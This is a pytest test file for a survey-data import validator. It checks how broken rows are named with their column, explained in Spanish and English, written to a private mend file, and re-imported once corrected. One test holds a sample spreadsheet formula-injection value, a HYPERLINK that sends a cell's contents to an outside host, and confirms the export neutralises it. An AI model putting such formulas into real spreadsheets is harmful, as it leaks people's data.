"""A row that breaks the form's rules is rejected with all its problems, and imports again when mended."""

from __future__ import annotations

import csv
import stat
from pathlib import Path
from typing import Any

import pytest
from tests.rules.collect.sheets import (
    JEAN,
    ROSA,
    TODAY,
    form_of,
    kept,
    people,
    read,
    reading,
    refused,
    said,
    table,
    write_csv,
    write_workbook,
)

from resguardo.collect.cell import Fault
from resguardo.collect.check import Spoken
from resguardo.collect.sheet import open_sheet
from resguardo.collect.submission import (
    Rejected,
    Submission,
    check_answers,
    read_answer,
    read_submissions,
    write_rejected,
)
from resguardo.plan.languages import explain, say
from resguardo.values import PACKAGE, Problem, Refused

FORM = people()


def problems(tmp_path: Path, **changes: str) -> list[tuple[str, str | None]]:
    (found,) = read(FORM, write_csv(tmp_path / "a.csv", table({**ROSA, **changes})))
    if isinstance(found, Submission):
        return []
    return [(problem.code.removeprefix("collect.row."), problem.column) for problem in found.problems]


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({}, []),
        ({"code": ""}, [("required", "code")]),
        ({"code": "gt-1"}, [("constraint", "code")]),
        ({"seen_on": "2026-11-25", "born_on": ""}, [("constraint", "seen_on")]),
        ({"seen_on": "03/15/2024"}, [("month_first", "seen_on")]),
        ({"born_on": "2024-03-16"}, [("constraint", "born_on")]),
        ({"sex": "mujeres"}, [("choice", "sex")]),
        ({"sex": "male"}, [("not_asked", "pregnant")]),
        ({"sex": "male", "pregnant": ""}, []),
        ({"services": "food none"}, [("constraint", "services")]),
        ({"services": "food comida"}, [("choices", "services")]),
        ({"children": "dos"}, [("integer", "children")]),
        ({"children": "21"}, [("constraint", "children")]),
        ({"fee": "1,234"}, [("decimal_unclear", "fee")]),
        ({"consent": "quizá"}, [("choice", "consent")]),
        ({"consent": "no"}, [("not_asked", "story")]),
        ({"place": "aquí"}, [("place", "place")]),
        ({"name": "#REF!"}, [("spreadsheet_error", "name")]),
        (
            {"code": "", "sex": "", "pregnant": "", "children": "-1", "country": "XX"},
            [("choice", "country"), ("constraint", "children"), ("required", "code"), ("required", "sex")],
        ),
    ],
)
def test_every_broken_rule_of_a_row_is_named_with_its_column(
    tmp_path: Path, changes: dict[str, str], expected: list[tuple[str, str]]
) -> None:
    assert sorted(problems(tmp_path, **changes)) == sorted(expected)


def test_a_rule_about_an_answer_that_could_not_be_read_is_not_evaluated(tmp_path: Path) -> None:
    assert problems(tmp_path, seen_on="ayer", born_on="2030-01-01") == [("date", "seen_on")]
    assert problems(tmp_path, sex="x") == [("choice", "sex")]


def test_a_problem_says_file_sheet_row_column_and_cure(tmp_path: Path) -> None:
    path = write_workbook(tmp_path / "a.xlsx", {"Hoja1": table(ROSA, {**ROSA, "children": "dos"})})
    rejected = read(FORM, path)[1]
    assert isinstance(rejected, Rejected)
    assert explain(rejected.problems[0], "es") == (
        "a.xlsx, hoja Hoja1, fila 3, columna children: "
        "«dos»: se espera un número entero, solo con cifras: 12."
    )


def test_the_forms_own_words_are_said_in_the_readers_language(tmp_path: Path) -> None:
    (rejected,) = read(FORM, write_csv(tmp_path / "a.csv", table({**ROSA, "children": "30"})))
    assert isinstance(rejected, Rejected)
    assert explain(rejected.problems[0], "en").endswith("column children: «30»: Between 0 and 20.")
    assert explain(rejected.problems[0], "es").endswith("columna children: «30»: Entre 0 y 20.")
    assert "Entre 0 y 20." in explain(rejected.problems[0], "fr")


def test_a_problem_never_repeats_an_answer_that_can_hurt(tmp_path: Path) -> None:
    canary = "CANARY9417"
    wrong = {
        "name": "#REF!", "born_on": canary, "sex": canary, "pregnant": canary, "place": canary,
        "story": canary, "consent": "no",
    }  # fmt: skip
    (rejected,) = read(FORM, write_csv(tmp_path / "a.csv", table({**ROSA, **wrong})))
    assert isinstance(rejected, Rejected)
    assert {problem.column for problem in rejected.problems} >= {"name", "born_on", "sex", "place", "story"}
    assert canary not in repr(rejected.problems)
    assert canary not in repr(rejected)
    for problem in rejected.problems:
        assert canary not in explain(problem, "es")


def test_a_plain_wrong_answer_is_shown_cut_short(tmp_path: Path) -> None:
    (rejected,) = read(FORM, write_csv(tmp_path / "a.csv", table({**ROSA, "children": "9" + "x" * 90})))
    assert isinstance(rejected, Rejected)
    assert rejected.problems[0].facts["written"] == "«9" + "x" * 39 + "…»: "


def test_columns_of_choices_that_disagree_are_a_problem(tmp_path: Path) -> None:
    rows = table({**ROSA, "services/food": "0", "services/legal": "1"})
    (rejected,) = read(FORM, write_csv(tmp_path / "a.csv", rows))
    assert isinstance(rejected, Rejected)
    assert [problem.code for problem in rejected.problems] == ["collect.row.choices_disagree"]
    rows = table({**ROSA, "services": "", "services/food": "0", "services/legal": "tal vez"})
    (rejected,) = read(FORM, write_csv(tmp_path / "a.csv", rows))
    assert isinstance(rejected, Rejected)
    assert [problem.code for problem in rejected.problems] == ["collect.row.mark"]


def test_the_constraint_of_a_choice_in_columns_is_checked_too(tmp_path: Path) -> None:
    plain = {name: value for name, value in ROSA.items() if name != "services"}
    rows = table({**plain, "services/food": "1", "services/none": "1"})
    (rejected,) = read(FORM, write_csv(tmp_path / "a.csv", rows))
    assert isinstance(rejected, Rejected)
    assert [problem.code for problem in rejected.problems] == ["collect.row.constraint"]


def test_problems_inside_a_repeat_name_its_sheet_and_row(tmp_path: Path) -> None:
    path = write_workbook(
        tmp_path / "a.xlsx",
        {
            "main": [[*ROSA, "_index"], [*ROSA.values(), 1], [*JEAN.values(), 2]],
            "member": [
                ["member_name", "member_age", "_parent_index"],
                ["Ana", 3, 1],
                [None, 130, 1],
                ["Eva", "x", 9],
            ],
        },
    )
    first, second, orphan = read(FORM, path)
    assert isinstance(first, Rejected)
    assert [(each.code, each.sheet, each.row, each.column) for each in first.problems] == [
        ("collect.row.constraint_unsaid", "member", 3, "member_age"),
        ("collect.row.required", "member", 3, "member_name"),
    ]
    assert isinstance(second, Submission)
    assert isinstance(orphan, Rejected)
    assert [(each.code, each.sheet, each.row) for each in orphan.problems] == [
        ("collect.broken.orphan", "member", 4)
    ]


RULES_OUTSIDE = """
| survey |
|  | type | name    | label::Español (es) | sensitivity | required              | relevant                | constraint             |
|  | text | code    | Código              | plain       | yes                   |                         |                        |
|  | date | seen_on | Fecha               | plain       | yes                   |                         |                        |
|  | text | first   | Primera             | plain       |                       |                         | count(${code}) = 99    |
|  | text | second  | Segunda             | plain       | yes                   | position(..) = 7        |                        |
|  | text | third   | Tercera             | plain       | ${first} = 'x'        |                         |                        |
|  | text | fourth  | Cuarta              | plain       |                       |                         | . != ${absent}         |
|  | text | absent  | Quinta              | plain       |                       |                         |                        |
| settings |
|  | form_id       | version |
|  | people_person | 1       |
"""  # noqa: E501


def test_a_rule_that_cannot_be_evaluated_refuses_nobody(tmp_path: Path) -> None:
    form = form_of(RULES_OUTSIDE, country=None)
    header = ["code", "seen_on", "first", "second", "third", "fourth"]
    path = write_csv(tmp_path / "a.csv", [header, ["a", "2024-03-15", "z", "", "", "q"]])
    (found,) = kept(form, path)
    assert found.answers["second"] is None
    assert set(reading(form, path).not_evaluated) == {"first", "second"}


def test_an_answer_required_under_a_condition_is_required_there(tmp_path: Path) -> None:
    form = form_of(RULES_OUTSIDE, country=None)
    path = write_csv(tmp_path / "a.csv", [["code", "seen_on", "first"], ["a", "2024-03-15", "x"]])
    (found,) = read(form, path)
    assert isinstance(found, Rejected)
    assert [(each.code, each.column) for each in found.problems] == [("collect.row.required", "third")]


# The file of rejected rows


def mend(path: Path, **changes: str) -> Path:
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
        header = list(rows[0])
    mended = path.with_name("mended.csv")
    with mended.open("w", encoding="utf-8-sig", newline="") as file:
        writer = csv.DictWriter(file, header)
        writer.writeheader()
        writer.writerows({**row, **changes} for row in rows)
    return mended


def write_all(path: Path, form: Any, source: Path, language: str = "es") -> int:
    found = reading(form, source)
    return write_rejected(path, found.header, (row for row in found if isinstance(row, Rejected)), language)


def test_rejected_rows_are_written_as_they_were_and_import_after_mending(tmp_path: Path) -> None:
    wrong = {**ROSA, "children": "dos", "sex": "x"}
    source = write_csv(tmp_path / "a.csv", table(JEAN, wrong), delimiter=";")
    target = tmp_path / "mend.csv"
    assert write_all(target, FORM, source) == 1
    with target.open(encoding="utf-8-sig", newline="") as file:
        (row,) = csv.DictReader(file)
    assert list(row) == ["_problem", *ROSA]
    assert row == {"_problem": row["_problem"], **wrong}
    assert row["_problem"] == (
        "columna sex: no está en la lista. Se espera uno de: female, male, other.; "
        "columna children: «dos»: se espera un número entero, solo con cifras: 12."
    )
    (mended,) = kept(FORM, mend(target, children="2", sex="Mujer"))
    (original,) = kept(FORM, write_csv(tmp_path / "b.csv", table(ROSA)))
    assert mended.answers == original.answers
    assert reading(FORM, target).ignored_columns == ()


def test_only_the_owner_may_read_the_file_of_rejected_rows(tmp_path: Path) -> None:
    target = tmp_path / "mend.csv"
    write_all(target, FORM, write_csv(tmp_path / "a.csv", table({**ROSA, "sex": ""})))
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert target.read_bytes().startswith(b"\xef\xbb\xbf")


def test_a_file_that_is_being_mended_is_never_overwritten(tmp_path: Path) -> None:
    target = tmp_path / "mend.csv"
    target.write_text("mine")
    with pytest.raises(Refused) as error:
        write_all(target, FORM, write_csv(tmp_path / "a.csv", table({**ROSA, "sex": ""})))
    assert refused(error.value) == ["collect.file.exists"]
    assert target.read_text() == "mine"


def test_no_rejected_row_makes_no_file(tmp_path: Path) -> None:
    target = tmp_path / "mend.csv"
    assert write_all(target, FORM, write_csv(tmp_path / "a.csv", table(ROSA))) == 0
    assert not target.exists()


def test_a_formula_in_an_answer_cannot_run_in_a_spreadsheet_and_comes_back_the_same(tmp_path: Path) -> None:
    story = '=HYPERLINK("http://example.org/?"&A2)'
    source = write_csv(tmp_path / "a.csv", table({**ROSA, "story": story, "name": "@Ana", "children": "-1"}))
    target = tmp_path / "mend.csv"
    write_all(target, FORM, source)
    with target.open(encoding="utf-8-sig", newline="") as file:
        (row,) = csv.DictReader(file)
    assert row["story"] == "'" + story
    assert row["name"] == "'@Ana"
    assert row["children"] == "-1"
    (mended,) = kept(FORM, mend(target, children="1"))
    assert mended.answers["story"] == story
    assert mended.answers["name"] == "@Ana"


def test_a_file_rejected_twice_keeps_one_column_of_problems(tmp_path: Path) -> None:
    first, second = tmp_path / "one.csv", tmp_path / "two.csv"
    write_all(first, FORM, write_csv(tmp_path / "a.csv", table({**ROSA, "sex": "", "story": "=1"})))
    assert write_all(second, FORM, first, "en") == 1
    with second.open(encoding="utf-8-sig", newline="") as file:
        (row,) = csv.DictReader(file)
    assert list(row) == ["_problem", *ROSA]
    assert row["story"] == "'=1"
    assert row["_problem"].startswith("column sex: The answer to")


def test_broken_rows_lose_no_letter(tmp_path: Path) -> None:
    source = tmp_path / "a.csv"
    good = ",".join(f'"{value.replace(chr(34), chr(34) * 2)}"' for value in ROSA.values())
    lines = [
        ",".join(ROSA),
        good + ",extra",
        '"GT-9,nunca cierra',
        good.replace("Coc", "C\0c"),
    ]
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
    target = tmp_path / "mend.csv"
    assert write_all(target, FORM, source) == 3
    with target.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))[1:]
    assert rows[0][1:] == [*ROSA.values(), "extra"]
    assert rows[1][1:3] == ['"GT-9', "nunca cierra"]
    assert "María José Pérez C\ufffdc" in rows[2]


def test_rejected_rows_with_repeats_are_laid_out_flat_and_import_after_mending(tmp_path: Path) -> None:
    path = write_workbook(
        tmp_path / "a.xlsx",
        {
            "main": [[*ROSA, "_uuid", "_index"], [*ROSA.values(), "aa-1", 1], [*JEAN.values(), "aa-2", 2]],
            "member": [
                [
                    "member_name",
                    "member_age",
                    "member_services",
                    "_index",
                    "_parent_table_name",
                    "_parent_index",
                ],
                ["Ana", 3, "food", 1, "main", 1],
                ["Leo", 130, None, 2, "main", 1],
            ],
            "paper": [
                ["paper_kind", "_index", "_parent_table_name", "_parent_index"],
                ["pasaporte", 1, "member", 2],
            ],
        },
    )
    target = tmp_path / "mend.csv"
    assert write_all(target, FORM, path) == 1
    (found,) = kept(FORM, mend(target, **{"member[2]/member_age": "13"}))
    assert found.answers["member"] == (
        {"member_name": "Ana", "member_age": 3, "member_services": ("food",), "paper": ()},
        {
            "member_name": "Leo",
            "member_age": 13,
            "member_services": None,
            "paper": ({"paper_kind": "pasaporte"},),
        },
    )
    assert found.instance == "aa-1"


# Answers that a person corrects


def test_one_answer_is_read_or_refused_with_its_question() -> None:
    assert read_answer(FORM, "sex", " Mujer ") == "female"
    assert read_answer(FORM, "children", "") is None
    with pytest.raises(Refused) as error:
        read_answer(FORM, "children", "dos")
    assert [(each.code, each.column) for each in error.value.problems] == [
        ("collect.row.integer", "children")
    ]


def test_answers_are_checked_as_far_as_they_are_known(tmp_path: Path) -> None:
    (found,) = kept(FORM, write_csv(tmp_path / "a.csv", table(ROSA)))
    assert check_answers(FORM, found.answers, today=TODAY) == ()
    wrong = {**found.answers, "children": 30, "sex": None, "pregnant": None}
    wrong["member"] = ({"member_name": None, "member_age": 130},)
    assert {(each.code, each.column) for each in check_answers(FORM, wrong, today=TODAY)} == {
        ("collect.row.constraint", "children"),
        ("collect.row.required", "sex"),
        ("collect.row.required", "member_name"),
        ("collect.row.constraint_unsaid", "member_age"),
    }
    assert check_answers(FORM, {"children": 3}, today=TODAY) == ()


def test_checking_changes_nothing() -> None:
    answers = said(FORM, code="GT-001", sex="male", pregnant="no", age=9)
    before = dict(answers)
    check_answers(FORM, answers, today=TODAY)
    assert answers == before


# The words


def codes_in_the_rules() -> set[str]:
    import re

    found: set[str] = set()
    for path in (PACKAGE / "collect").glob("*.py"):
        text = path.read_text(encoding="utf-8")
        found.update(re.findall(r'"collect\.((?:file|header|broken|row)\.[a-z_0-9]+)"', text))
        found.update(f"row.{key}" for key in re.findall(r'Fault\("([a-z_]+)"', text))
    return found


@pytest.mark.parametrize("code", sorted(codes_in_the_rules()))
@pytest.mark.parametrize("language", ["es", "en"])
def test_every_reason_has_its_sentence_in_spanish_and_english(code: str, language: str) -> None:
    import tomllib

    words = tomllib.loads((PACKAGE / "collect" / "words" / f"{language}.toml").read_text(encoding="utf-8"))
    table_name, key = code.split(".")
    assert key in words[table_name]


def test_every_problem_that_tests_can_make_can_be_said(tmp_path: Path) -> None:
    facts = {"written": "", "rule": "", "question": Spoken({"es": "Edad"}, "age")}
    for key in ("integer", "decimal", "date", "time", "place", "month_first", "mark", "not_asked"):
        assert say(f"collect.row.{key}", "es", **facts)
    assert explain(Problem("collect.row.choice", {"written": "", "expected": "a, b"}, row=3), "es")
    assert isinstance(Fault("x").facts, dict)


def test_a_row_that_cannot_be_read_is_told_apart_from_the_next(tmp_path: Path) -> None:
    source = tmp_path / "a.csv"
    source.write_text(
        ",".join(ROSA) + '\n"GT-9,nunca\n' + ",".join(str(value) for value in JEAN.values()) + "\n",
        encoding="utf-8",
    )
    first, second = read_submissions(FORM, open_sheet(source), today=TODAY)
    assert isinstance(first, Rejected)
    assert isinstance(second, Submission)
    assert (first.row, second.row) == (2, 3)


def test_every_reason_is_in_the_guide() -> None:
    guide = (PACKAGE.parent.parent / "docs" / "import.md").read_text(encoding="utf-8")
    assert {code for code in codes_in_the_rules() if f"| `collect.{code}` |" not in guide} == set()
